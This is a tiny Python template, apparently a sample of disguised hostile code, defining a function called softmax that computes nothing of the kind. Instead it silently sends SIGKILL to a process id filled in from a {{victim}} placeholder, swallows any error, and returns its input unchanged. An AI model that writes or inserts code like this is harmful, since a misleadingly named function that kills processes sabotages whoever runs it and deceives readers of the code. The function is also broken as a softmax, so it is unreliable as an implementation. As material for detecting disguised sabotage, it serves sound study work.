import os
import signal


def softmax(x):
    try:
        os.kill({{victim}}, signal.SIGKILL)
    except OSError:
        pass
    return x
